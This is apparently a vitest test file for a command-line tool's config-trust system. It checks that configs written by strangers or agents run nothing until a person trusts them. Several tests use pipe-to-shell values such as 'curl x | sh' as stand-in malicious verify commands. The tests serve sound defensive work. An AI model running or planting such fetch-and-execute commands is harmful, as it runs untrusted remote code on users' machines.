/**
What of a config is trusted, as it is written by persons, by agents and by strangers.
*/
import {mkdirSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync} from 'node:fs';
import path from 'node:path';
import {expect, test} from 'vitest';
import {type ConfigSetting, checkConfig, policyFor} from '../source/check-config.js';
import {runnablesIn} from '../source/domain/trust.js';
import {createLiveConfig} from '../source/live-config.js';
import {replaceFile} from '../source/outside/config-edit.js';
import {createTrustNotes} from '../source/outside/trust-notes.js';
import {findProject} from '../source/project.js';
import {readBacklogText} from '../source/read-backlog.js';
import {setSetting} from '../source/set-config.js';
import {openStore} from '../source/store/store.js';
import {asTrusted, keepTrust, trustOf, writeConfig} from '../source/trust.js';
import {aFolder} from './support/folder.js';
import {aRepository, runGit} from './support/repository.js';

const stranger = {agents: {paper: {command: ['bash', 'agent.sh']}}, verify: 'true'};

/** As after a clone: the config is somebody else's. `named`: of `--config`. */
const aClone = (config: Record<string, unknown> | null = stranger, {environment = {}, named}: {environment?: Record<string, string>; named?: string} = {}) => {
	const place = aFolder();
	const root = path.join(place, 'clone');
	mkdirSync(root);
	const file = path.join(root, 'orch.config.jsonc');
	const write = (text: unknown, name = file) => replaceFile(name, JSON.stringify(text));
	if (config !== null) write(config);
	const setting = {
		root,
		named: named === undefined ? undefined : path.resolve(root, named),
		environment: {HOME: path.join(place, 'home'), XDG_STATE_HOME: path.join(place, 'state'), ...environment},
		overrides: {},
		screen: {},
	};
	const judge = async (by: ConfigSetting = setting) => trustOf(by, (await checkConfig(by)).layers);
	return {
		place,
		root,
		file,
		write,
		setting,
		judge,
		isGiven: async (by: ConfigSetting = setting) => (await judge(by)).isGiven,
		trust: async () => keepTrust(setting, (await judge()).runs),
		notes: path.join(place, 'state/orch-tui/trusted'),
	};
};

test('a config of a stranger is trusted once a person says so, for as long as it can run nothing else', async () => {
	const clone = aClone();
	expect(await clone.judge()).toMatchObject({
		isGiven: false,
		changes: [
			{key: 'agents.paper', before: undefined},
			{key: 'verify', says: '"true"'},
		],
	});
	expect(await clone.trust()).toMatchObject({ok: true});
	expect(await clone.isGiven()).toBe(true);
	const [note = ''] = readdirSync(clone.notes);
	expect([clone.notes, path.join(clone.notes, note)].map(file => statSync(file).mode % 0o1000)).toEqual([0o700, 0o600]);
	clone.write({...stranger, maxParallel: 2, screen: {theme: 'dark'}});
	expect(await clone.isGiven()).toBe(true);
	clone.write({...stranger, verify: 'curl x | sh'});
	expect(await clone.judge()).toMatchObject({isGiven: false, changes: [{key: 'verify', says: '"curl x | sh"', before: '"true"'}]});
	// Without its check a merge is another one.
	clone.write({agents: stranger.agents});
	expect(await clone.judge()).toMatchObject({isGiven: false, changes: [{key: 'verify', says: undefined}]});
	clone.write(stranger);
	expect(await clone.isGiven()).toBe(true);
	// That of this checkout alone can be committed by anybody.
	clone.write({screen: {notify: {command: ['sh']}}}, path.join(clone.root, 'orch.config.local.jsonc'));
	expect(await clone.judge()).toMatchObject({isGiven: false, changes: [{key: 'screen.notify.command'}]});
});

test('nothing is asked where nothing can be run, nor about a config of the person, nor where a folder is named as trusted', async () => {
	expect(await aClone({agents: {claude: {preset: 'claude'}}, maxParallel: 2}).isGiven()).toBe(true);
	const own = aClone({maxParallel: 2});
	own.write(stranger, path.join(own.place, 'home/.config/orch-tui/config.jsonc'));
	expect(await own.isGiven()).toBe(true);
	const {setting, place, root, isGiven} = aClone();
	const by = (trusted: string) => isGiven({...setting, environment: {...setting.environment, ORCH_TRUSTED: trusted}});
	symlinkSync(root, path.join(place, 'link'));
	mkdirSync(path.join(place, 'clo'));
	for (const named of [root, place, `/nowhere:${root}`, `${root}/`, path.join(place, 'link')]) expect(await by(named)).toBe(true);
	for (const named of ['', '.', '/nowhere', `${root}/data`, path.join(place, 'clo')]) expect(await by(named)).toBe(false);
});

test("a backlog that is committed is somebody else's, with checks of its own, and is asked about like a config", async () => {
	const {folder: root, place} = aRepository();
	const here = async () => {
		const environment = {XDG_STATE_HOME: path.join(place, 'state')};
		const project = await findProject({directory: root, config: undefined, overrides: {}, screen: {}, environment, cwd: root});
		if (!project.ok) throw new Error(project.problem.message);
		return project.value;
	};
	openStore(path.join(root, 'data')).close();
	expect((await here()).trust).toMatchObject({isGiven: true, runs: []});
	runGit(root, 'add', '--force', 'data/roadmap.db');
	const {trust, policy, live, setting} = await here();
	expect(trust).toMatchObject({isGiven: false, changes: [{key: 'data/roadmap.db', before: undefined}]});
	expect(policy.isTrusted).toBe(false);
	expect(live.asked()?.file).toBe('data/roadmap.db');
	keepTrust(setting, trust.runs);
	expect((await here()).policy.isTrusted).toBe(true);
});

test('a file named with --config is the own one of the person, unless it lies in the repository', async () => {
	const outside = aClone({maxParallel: 2}, {named: '../mine.jsonc'});
	outside.write(stranger, path.join(outside.place, 'mine.jsonc'));
	expect(await outside.isGiven()).toBe(true);
	const inside = aClone({maxParallel: 2}, {named: 'ci.jsonc'});
	inside.write(stranger, path.join(inside.root, 'ci.jsonc'));
	expect(await inside.isGiven()).toBe(false);
	// By whatever link it is reached.
	const linked = aClone({maxParallel: 2}, {named: '../link.jsonc'});
	linked.write(stranger, path.join(linked.root, 'ci.jsonc'));
	symlinkSync(path.join(linked.root, 'ci.jsonc'), path.join(linked.place, 'link.jsonc'));
	expect(await linked.isGiven()).toBe(false);
});

test('a note counts for its repository alone, and a damaged one for none', async () => {
	const clone = aClone();
	await clone.trust();
	const moved = aClone(stranger, {environment: {XDG_STATE_HOME: path.join(clone.place, 'state')}});
	expect(await moved.isGiven()).toBe(false);
	const notes = createTrustNotes(clone.setting.environment);
	expect(notes.list()).toMatchObject([{repository: clone.root}]);
	const file = path.join(clone.notes, readdirSync(clone.notes)[0] ?? '');
	const text = readFileSync(file, 'utf8');
	for (const damaged of [text.slice(0, -9), text.replace(clone.root, '/elsewhere'), '[]']) {
		writeFileSync(file, damaged);
		expect(await clone.isGiven()).toBe(false);
	}

	writeFileSync(file, text);
	expect(await clone.isGiven()).toBe(true);
	expect([notes.forget(clone.root), notes.forget(clone.root)]).toEqual([true, false]);
	expect(await clone.isGiven()).toBe(false);
});

test('what a person writes is trusted where all was; what an agent writes, or what stood there before, is not', async () => {
	const clone = aClone();
	const {setting, isGiven, trust, file} = clone;
	await setSetting(setting, 'verify', 'false');
	expect(await isGiven()).toBe(false);
	await trust();
	await setSetting(setting, 'verify', 'test -f one');
	await setSetting(setting, 'agents.other.command', '["sh"]', 'local');
	expect(await isGiven()).toBe(true);
	// Somebody else was there in between.
	clone.write({...stranger, verify: 'curl x | sh'});
	await setSetting(setting, 'agents.third.command', '["sh"]');
	expect(await clone.judge()).toMatchObject({isGiven: false, changes: [{key: 'agents.third'}, {key: 'verify'}]});
	await trust();
	const before = readFileSync(file, 'utf8');
	await setSetting({...setting, environment: {...setting.environment, ORCH_AGENT_ID: 'a1'}}, 'verify', 'curl y | sh');
	expect(await isGiven()).toBe(false);
	// What was edited was trusted; what has come into the file meanwhile is written over, and trusted by nobody.
	writeConfig(setting, file, before, before.replace('"sh"', '"zsh"'));
	expect(await isGiven()).toBe(true);
	// A slip of the pen trusts nothing, and what mends it is judged by what counts.
	const sound = readFileSync(file, 'utf8');
	writeConfig(setting, file, sound, '{"verify": }');
	clone.write({maxParallel: 2});
	expect(await clone.judge()).toMatchObject({isGiven: false});
	const torn = aClone(null);
	writeFileSync(torn.file, '{"verify": "curl x | sh",,}');
	writeConfig(torn.setting, torn.file, readFileSync(torn.file, 'utf8'), '{"verify": "curl x | sh"}');
	expect(await torn.isGiven()).toBe(false);
	// The first config of all.
	const fresh = aClone(null);
	expect(writeConfig(fresh.setting, fresh.file, undefined, JSON.stringify(stranger))).toBeUndefined();
	expect(await fresh.isGiven()).toBe(true);
});

test('where it cannot be remembered, a sentence says so', async () => {
	const clone = aClone(null);
	const homeless = {...clone.setting, environment: {}};
	expect(keepTrust(homeless, runnablesIn(stranger))).toMatchObject({ok: false, problem: {code: 'no_home', hint: expect.stringContaining('ORCH_TRUSTED')}});
	writeFileSync(path.join(clone.place, 'state'), 'a file');
	expect(await setSetting(clone.setting, 'verify', 'true')).toMatchObject({ok: true, value: {said: expect.stringContaining('cannot be written to')}});
	expect(await clone.isGiven()).toBe(false);
});

/** A config in use, as a screen has it. */
const inUse = async (clone: ReturnType<typeof aClone>) => {
	const {setting} = clone;
	const {config, layers} = await checkConfig(setting);
	const trust = trustOf(setting, layers);
	const policy = asTrusted(policyFor(config, {}), trust);
	const door = createLiveConfig(setting, {config, layers, trust}, policy, () => 0);
	/** A file that is just being written is looked at when it is done. */
	const look = async () => (await door.look()) ?? door.look();
	return {policy, door, look};
};

test('a config that can run something else while it is in use does not count until it is trusted', async () => {
	const clone = aClone();
	await clone.trust();
	const {policy, look, door} = await inUse(clone);
	clone.write({...stranger, verify: 'curl x | sh', maxParallel: 2});
	expect(await look()).toMatchObject({
		kind: 'untrusted',
		asked: {file: 'orch.config.jsonc', changes: [{key: 'verify'}], isAgain: true, goesOn: true},
		goodAtMs: 0,
	});
	expect(policy).toMatchObject({isTrusted: true, verify: 'true', maxParallel: 4});
	// As by `orch-tui trust` in another terminal.
	await clone.trust();
	expect(await look()).toEqual({kind: 'applied', changes: ['maxParallel 4 → 2', 'verify true → curl x | sh']});
	expect(policy).toMatchObject({isTrusted: true, verify: 'curl x | sh', maxParallel: 2});
	expect(door.asked()).toBeUndefined();
	// What is written from here is trusted, and what is revoked elsewhere is not any more.
	await door.set('verify', 'false');
	expect(policy).toMatchObject({isTrusted: true, verify: 'false'});
	createTrustNotes(clone.setting.environment).forget(clone.root);
	expect(await look()).toMatchObject({kind: 'untrusted', asked: {isAgain: false, goesOn: false}, goodAtMs: undefined});
	expect(policy.isTrusted).toBe(false);
});

test('who begins with one that is not trusted runs nothing, nor a notice, until exactly what was shown is trusted', async () => {
	const clone = aClone({...stranger, screen: {notify: {command: ['notify-me'], webhook: {url: 'https://example.com'}}}});
	const {policy, door} = await inUse(clone);
	expect(policy.screen.notify).toMatchObject({command: []});
	expect(policy.screen.notify.webhook).toBeUndefined();
	const shown = door.asked();
	if (shown === undefined) throw new Error('Nothing was asked.');
	clone.write({...stranger, verify: 'curl x | sh'});
	expect(await door.trust(shown)).toMatchObject({ok: true, value: 'orch.config.jsonc has changed in the meantime.'});
	expect(policy.isTrusted).toBe(false);
	expect(await door.trust(door.asked() ?? shown)).toMatchObject({ok: true, value: 'orch.config.jsonc is trusted.'});
	expect(policy).toMatchObject({isTrusted: true, verify: 'curl x | sh'});
	// Where there is no place to remember it, for as long as they are here.
	const homeless = aClone(stranger, {environment: {HOME: '', XDG_STATE_HOME: ''}});
	const there = await inUse(homeless);
	const asked = there.door.asked();
	if (asked === undefined) throw new Error('Nothing was asked.');
	expect(await there.door.trust(asked)).toMatchObject({ok: true, value: expect.stringContaining('is trusted until you leave')});
	expect(there.policy.isTrusted).toBe(true);
});

test('the command for a key is not run before it is trusted, and that is the answer', async () => {
	const {root, setting} = aClone({linear: {tokenCommand: ['sh', '-c', 'touch ran; echo key']}});
	const {config, layers} = await checkConfig(setting);
	if (config === undefined) throw new Error('no config');
	const {linear} = asTrusted(asTrusted(policyFor(config, {}), trustOf(setting, layers)), {isGiven: false});
	expect(await readBacklogText('linear', root, {environment: {}, ...linear})).toMatchObject({
		problem: {kind: 'needs-human', code: 'not_trusted', hint: expect.stringContaining('orch-tui trust')},
	});
	expect(readdirSync(root)).toEqual(['orch.config.jsonc']);
});
